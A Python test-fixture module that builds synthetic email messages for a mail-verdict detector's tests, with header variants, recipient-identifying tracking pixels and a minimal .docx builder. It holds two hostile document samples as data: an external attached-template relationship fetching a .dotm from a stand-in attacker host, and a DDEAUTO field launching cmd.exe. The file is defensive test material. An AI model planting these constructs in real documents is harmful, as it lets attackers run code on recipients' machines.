"""Small messages for the verdict table (tests/test_verdict.py): one shape of real mail each.

The baseline is a plain message from alice@partner-mail.eu to anne.dupont@parl-test.be, received by the
recipient's mx1.parl-test.be, which stamped an all-pass Authentication-Results. Every case changes a few
headers, the HTML body or the attachments. All names are made up; nothing here is loaded from anywhere.
"""

from __future__ import annotations

import base64
import hashlib
import io
import zipfile
from email.message import EmailMessage

READER = "anne.dupont@parl-test.be"
MX = "mx1.parl-test.be"
ENTRY = (
    "from mail.partner-mail.eu (mail.partner-mail.eu [185.70.40.10]) by mx1.parl-test.be (Postfix) "
    "with ESMTPS id 4AbCdE for <anne.dupont@parl-test.be>; Mon, 6 Jan 2025 10:00:05 +0100"
)
SUBMISSION = (
    "from [10.0.0.7] (pc7.partner-mail.eu [10.0.0.7]) by mail.partner-mail.eu (Postfix) with ESMTPSA id 1XyZ; "
    "Mon, 6 Jan 2025 10:00:01 +0100"
)
AR_PASS = "mx1.parl-test.be; spf=pass smtp.mailfrom=partner-mail.eu; dmarc=pass header.from=partner-mail.eu"
BASE = {
    "Return-Path": "<alice@partner-mail.eu>",
    "From": "Alice Martin <alice@partner-mail.eu>",
    "To": "Anne Dupont <anne.dupont@parl-test.be>",
    "Subject": "Meeting notes",
    "Date": "Mon, 6 Jan 2025 09:59:58 +0100",
    "Message-ID": "<20250106095958.1@partner-mail.eu>",
}
B64_READER = base64.urlsafe_b64encode(READER.encode()).decode().rstrip("=")
MD5_READER = hashlib.md5(READER.encode()).hexdigest()
LIST = {"List-Id": "<news.partner-mail.eu>", "List-Unsubscribe": "<https://partner-mail.eu/unsub?l=4>"}


def mail(
    *,
    set: dict[str, str | None] | None = None,
    html: str | None = None,
    text: str = "Hello Anne,\n\nsee you on Monday.\n\nAlice\n",
    attach: tuple[tuple[bytes, str, str], ...] = (),
    received: tuple[str, ...] = (ENTRY, SUBMISSION),
    auth: str | None = AR_PASS,
    extra: tuple[tuple[str, str], ...] = (),
    top: tuple[tuple[str, str], ...] = (),
) -> bytes:
    """The baseline with `set` headers replaced (None removes one), a body and attachments.

    `top` headers come first, as the recipient's own servers write them; `extra` ones below the
    trace, where the sender writes."""
    msg = EmailMessage()
    for name, value in top:
        msg[name] = value
    if received:
        msg["Received"] = received[0]
    if auth:
        msg["Authentication-Results"] = auth
    for hop in received[1:]:
        msg["Received"] = hop
    fields = {**BASE, **(set or {})}
    for name, value in fields.items():
        if value is not None:
            msg[name] = value
    for name, value in extra:
        msg[name] = value
    msg.set_content(text)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    for data, filename, ctype in attach:
        maintype, _, subtype = ctype.partition("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


def page(body: str) -> str:
    return (
        "<html><body><p>Hello Anne,</p><p>Please find this week's news from the committee below, with the "
        f"agenda of the next meeting and the minutes of the last one.</p>{body}</body></html>"
    )


def docx(rels: str = "<Relationships/>", document: str = "<w:document/>") -> bytes:
    """A minimal .docx with these relationships and document body (also used by test_beacons)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/_rels/settings.xml.rels", rels)
        z.writestr("word/document.xml", document)
    return buffer.getvalue()


DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TEMPLATE_RELS = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="https://templates.evil-docs.net/t.dotm" TargetMode="External"/>'
    "</Relationships>"
)
DDE_DOCUMENT = (
    '<w:document><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:document>'
)
NEWS_FROM = {
    "From": "Le Quotidien <redaction@le-quotidien-news.net>",
    "Return-Path": "<bounce@le-quotidien-news.net>",
    "Message-ID": "<n1@le-quotidien-news.net>",
}
NEWS_AUTH = (
    "mx1.parl-test.be; spf=pass smtp.mailfrom=le-quotidien-news.net; dmarc=pass header.from=le-quotidien-news.net"
)
NEWS_ENTRY = ENTRY.replace("mail.partner-mail.eu", "mail.le-quotidien-news.net")
OWN_PIXEL = f'<img src="https://img.le-quotidien-news.net/o/{B64_READER}.gif" width="1" height="1">'
OWN_PIXEL_MD5 = f'<img src="https://track.le-quotidien-news.net/open?u={MD5_READER}" width="1" height="1">'
MAILCHIMP_PIXEL = (
    '<img src="https://partner-mail.us3.list-manage.com/track/open.php?u=4f2a9c1b&id=77e1&e=a1b2c3d4e5" '
    'width="1" height="1">'
)
PLAIN_PIXEL = '<img src="https://stats.partner-mail.eu/p.gif" width="1" height="1">'
